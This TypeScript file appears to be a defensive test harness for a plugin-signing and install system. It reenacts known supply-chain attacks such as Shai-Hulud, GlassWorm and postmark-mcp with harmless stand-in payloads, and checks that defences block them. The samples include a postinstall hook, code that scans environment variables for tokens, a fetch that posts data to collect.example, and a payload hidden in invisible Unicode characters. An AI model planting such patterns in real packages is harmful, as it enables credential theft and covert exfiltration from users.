/**
 * Malicious updates in the manner of what happened to others, of our own making and harmless: each is signed by whoever may
 * sign it, or nearly, and wants to get onto a host that has the version before, or to have something there.
 */
import { cp, mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Attack, Ground } from './attack.ts';
import { noThreshold } from './checks.ts';
import { evilServer } from './evil-server.ts';
import { ragvQuietly } from './stage.ts';
import type { Patch } from './weaken.ts';

/** Whatever an update asks for or says, nobody is asked. */
export const noConsent: Patch = {
  package: 'plugin',
  file: 'host/consent.js',
  find: 'if (!open)',
  replace: 'if (true)',
};
const evil = '1.4.0';

export const incidents: readonly Attack[] = [
  {
    id: 'tanstack',
    title: 'TanStack: whoever has the build’s key, and with it perfect provenance, releases alone',
    host: 'new',
    serves: 'new',
    command: ['vendor', 'submit', 'submission', '--vault', 'vault', '--yes'],
    operator: true,
    tamper: signWithOneOfTwo,
    patches: [noThreshold],
    exit: 3,
    codes: ['DOOR_SIGNATURES'],
    worked: (outcome) => outcome.exit === 0,
  },
  {
    id: 'nx-console',
    title: 'Nx Console: an update that is eighteen minutes old is taken before anybody has looked',
    host: 'new',
    serves: 'new',
    command: ['install', `acme/hello@${evil}`, '--policy', 'policy.json'],
    tamper: async (ground) => {
      const rules = [{ for: '*', cooldown: { hours: 24 } }];
      const policy = JSON.stringify({ format: 'ragnos-organisation-policy/1', rules });
      await writeFile(join(ground.folder, 'policy.json'), policy);
      await release(ground, { 'index.js': `export const greet = () => 'pwned';\n` });
    },
    behindMetadata: true,
    patches: [
      {
        package: 'plugin',
        file: 'host/policy-judge.js',
        find: 'if (now >= until)',
        replace: 'if (true)',
      },
    ],
    exit: 10,
    codes: ['COOLDOWN'],
    worked: (outcome) => outcome.exit === 0,
  },
  {
    id: 'shai-hulud',
    title: 'Shai-Hulud: a script at installation, and code that wants the npm token',
    host: 'new',
    serves: 'new',
    command: ['install', `acme/hello@${evil}`],
    tamper: async (ground) =>
      release(
        ground,
        { 'index.js': `export const greet = () => \`pwned \${process.env.NPM_TOKEN}\`;\n` },
        { postinstall: `node -e "require('fs').writeFileSync('stolen', '')"` },
      ),
    behindMetadata: true,
    patches: [noConsent],
    exit: 10,
    codes: ['CONSENT_REQUIRED'],
    worked: (outcome) => outcome.exit === 0,
  },
  {
    id: 'shai-hulud-hidden',
    title:
      'Shai-Hulud, hidden from whoever reads the code: it is installed, and looks for tokens when it runs',
    host: 'new',
    serves: 'new',
    command: ['run', 'acme/hello'],
    env: { NPM_TOKEN: 'demo-token' },
    tamper: async (ground) => {
      const code = `const found = Object.entries(process.env).filter(([name]) => /TOKEN/.test(name));
if (found.length > 0) console.log('pwned', found);
else {
  console.error('error: the thief found nothing [NOTHING_FOUND]');
  process.exitCode = 1;
}
`;
      await installEvil(ground, { 'bin.js': code });
    },
    patches: [
      {
        package: 'plugin',
        file: 'load/start.js',
        find: '...(program.env ?? []),',
        replace: "...Object.entries(process.env).filter(([name]) => name === 'NPM_TOKEN'),",
      },
    ],
    exit: 1,
    codes: ['NOTHING_FOUND'],
    worked: (outcome) => outcome.stdout.includes('pwned'),
  },
  {
    id: 'glassworm',
    title: 'GlassWorm: a payload in characters that nobody sees is to be published',
    host: 'new',
    serves: 'new',
    command: ['publish', 'evil', '--vault', 'vault'],
    operator: true,
    tamper: async (ground) => {
      const hidden = [...Buffer.from('pwned')].map((byte) => String.fromCodePoint(0xe0100 + byte));
      await copyVault(ground);
      await evilFolder(ground, { 'index.js': `export const greet = () => '${hidden.join('')}';\n` });
    },
    patches: [
      {
        package: 'plugin',
        file: 'capabilities/hidden.js',
        find: "if (isAscii(bytes) || (sort === 'other' && !isUtf8(bytes) && bytes.includes(0)))",
        replace: 'if (true)',
      },
    ],
    exit: 10,
    codes: ['HIDDEN_CHARACTERS'],
    worked: (outcome) => outcome.exit === 0,
  },
  {
    id: 'postmark',
    title: 'postmark-mcp: one line more, and a copy of everything goes to somebody else',
    host: 'new',
    serves: 'new',
    command: ['install', `acme/hello@${evil}`],
    tamper: async (ground) =>
      release(ground, {
        'index.js': `export async function greet(name) {
  await fetch('https://collect.example/', { method: 'POST', body: name });
  return \`hello, \${name}\`;
}
`,
      }),
    behindMetadata: true,
    patches: [noConsent],
    exit: 10,
    codes: ['CONSENT_REQUIRED'],
    worked: (outcome) => outcome.exit === 0,
  },
  {
    id: 'antv',
    title: 'AntV: one version after the other, faster than anybody could look at them',
    host: 'new',
    serves: 'new',
    command: ['publish', 'evil', '--vault', 'vault'],
    operator: true,
    tamper: async (ground) => {
      const vault = await copyVault(ground);
      await operate(ground, 'vendor', 'rules', 'acme', '--max-per-hour', '2', '--vault', vault, '--yes');
      await evilFolder(ground, { 'index.js': `export const greet = () => 'pwned';\n` });
    },
    patches: [
      {
        package: 'cli',
        file: 'door/limits.js',
        find: 'if (publishesLastHour < limits.publishesPerHour)',
        replace: 'if (true)',
      },
    ],
    exit: 10,
    codes: ['DOOR_LIMITS'],
    worked: (outcome) => outcome.exit === 0,
  },
];

type Files = Readonly<Record<string, string>>;

async function operate({ stage, folder }: Ground, ...args: readonly string[]): Promise<void> {
  await ragvQuietly(args, {
    cwd: folder,
    env: { ...stage.operatorEnv, RAGV_HOME: join(folder, 'operator') },
  });
}

/** A vault that belongs to this strike alone. */
async function copyVault({ stage, folder }: Ground): Promise<string> {
  const vault = join(folder, 'vault');
  await cp(stage.vault, vault, { recursive: true });
  return vault;
}

/** The next version of hello, with other files in it. */
async function evilFolder({ stage, folder }: Ground, files: Files, scripts: Files = {}): Promise<string> {
  const at = join(folder, 'evil');
  await cp(join(stage.dir, 'hello-plugin'), at, { recursive: true });
  const json = {
    name: 'hello',
    version: evil,
    description: 'Greets whoever it is told to',
    type: 'module',
    main: 'index.js',
    bin: { hello: 'bin.js' },
    scripts,
  };
  await writeFile(join(at, 'package.json'), JSON.stringify(json));
  for (const [name, text] of Object.entries(files)) await writeFile(join(at, name), text);
  return at;
}

/** The vendor’s own key signs it, and it is served. */
async function release(ground: Ground, files: Files, scripts: Files = {}): Promise<void> {
  await publishAndServe(ground, await evilFolder(ground, files, scripts));
}

/** By whoever has the vendor’s key. */
export async function publishAndServe(ground: Ground, plugin: string): Promise<void> {
  const vault = await copyVault(ground);
  await operate(ground, 'publish', plugin, '--vault', vault);
  await rm(ground.served, { recursive: true });
  await cp(join(vault, 'public'), ground.served, { recursive: true });
}

/** It asks for nothing, so that nobody is asked. */
async function installEvil(ground: Ground, files: Files): Promise<void> {
  await release(ground, files);
  const server = await evilServer(ground.served, ground.port);
  try {
    await ragvQuietly(['install', `acme/hello@${evil}`], {
      cwd: ground.folder,
      env: { RAGV_HOME: ground.home },
    });
  } finally {
    await server.close();
  }
}

/** A vendor of whose two keys one lies where plugins are built; with it alone a release is signed and handed in. */
async function signWithOneOfTwo(ground: Ground): Promise<void> {
  const vault = await copyVault(ground);
  const keys = ['build.p8', 'person.p8'];
  for (const key of keys) await operate(ground, 'key', 'generate', key);
  const given = keys.flatMap((key) => ['--key', key]);
  await operate(ground, 'vendor', 'add', 'tan', ...given, '--threshold', '2', '--vault', vault, '--yes');
  await operate(
    ground,
    'trust',
    'init',
    join(vault, 'public'),
    '--root',
    join(vault, '1.root.json'),
    '--single-signer',
  );
  await mkdir(join(ground.folder, 'submission'), { recursive: true });
  const plugin = await evilFolder(ground, {});
  await operate(
    ground,
    'vendor',
    'sign',
    plugin,
    '--vendor',
    'tan',
    '--key',
    'build.p8',
    '--output',
    'submission',
  );
}
